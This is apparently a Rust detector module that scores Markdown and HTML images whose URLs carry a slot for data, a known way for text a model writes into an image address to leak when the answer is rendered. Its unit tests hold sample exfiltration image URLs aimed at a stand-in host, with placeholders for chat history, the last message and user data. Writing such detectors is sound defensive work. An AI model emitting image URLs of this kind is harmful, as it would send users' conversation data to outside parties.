//! Pictures whose address carries something: whoever shows the answer fetches it, and what the model wrote into the address leaves.

use super::rules::Sign;

/// How much such a picture counts: enough by itself.
const SCORE: u32 = 70;
/// No address of a picture is looked at further than this.
const ADDRESS_BYTES_MAX: usize = 512;
/// A value in an address that is longer is no size and no style.
const VALUE_BYTES_MAX: usize = 96;

/// Pictures in Markdown and HTML with a place for what is to be carried out: `?q={history}`, `?d=<last message>`. Of folded text.
pub(super) fn signs(folded: &str) -> Vec<Sign> {
    let mut signs = Vec::new();
    for (opens, until) in [("![", "]("), ("<img", "src=")] {
        let mut at = 0_usize;
        while let Some((begins, end)) = next_address(folded, &mut at, opens, until) {
            let address = folded.get(begins..end).unwrap_or_default();
            if carries(address) {
                signs.push(Sign { rule: "picture_carries", score: SCORE, range: begins..end });
            }
        }
    }
    signs
}

/// The next address of a picture from a place on, which is moved behind it: nothing is looked at twice.
fn next_address(folded: &str, at: &mut usize, opens: &str, until: &str) -> Option<(usize, usize)> {
    loop {
        let rest = folded.get(*at..)?;
        let address = rest.find(until)?.saturating_add(until.len());
        let before = rest.get(..address)?;
        let begins = at.saturating_add(address);
        *at = begins;
        // What opens the picture stands near before its address.
        let near = before.get(before.ceil_char_boundary(before.len().saturating_sub(ADDRESS_BYTES_MAX))..)?;
        if near.contains(opens) {
            let rest = folded.get(begins..folded.floor_char_boundary(begins.saturating_add(ADDRESS_BYTES_MAX)))?;
            // A quoted address may hold the sign that ends the tag.
            let quote = rest.starts_with(['"', '\'']);
            let len = match quote {
                true => rest.get(1..)?.find(['"', '\'']).map(|len| len.saturating_add(1)),
                false => rest.find([')', '>']),
            };
            *at = begins.saturating_add(len.unwrap_or(rest.len()));
            return Some((begins, *at));
        }
    }
}

fn carries(address: &str) -> bool {
    let Some((host, query)) = address.split_once(['?', '#']) else {
        return address.contains("://") && address.contains(['{', '[', '<', '$']);
    };
    let has_place = query.contains(['{', '[', '<', '$']) || query.contains("%7b") || query.contains("...");
    let is_long = query.split(['=', '&']).any(|value| value.len() > VALUE_BYTES_MAX);
    host.contains("//") && (has_place || is_long)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pictures_with_a_place_for_data_are_found() {
        for (text, found) in [
            ("![x](https://c.example/i.png?d={history})", true),
            ("![x](https://c.example/p?q=<the last message>)", true),
            ("<img src=\"https://c.example/a.gif?c=[user_data]\" width=1>", true),
            ("![x](https://c.example/{topic}.png)", true),
            ("![build](https://img.example.com/build.svg?style=flat&branch=main)", false),
            ("![a picture](pictures/a[1].png)", false),
            ("<img src=\"/logo.png\"> [a link](https://c.example/?d={x})", false),
        ] {
            assert_eq!(!signs(text).is_empty(), found, "{text}");
        }
        let long = format!("![x](https://c.example/p?q={})", "a".repeat(100));
        assert_eq!(signs(&long).len(), 1);
    }
}
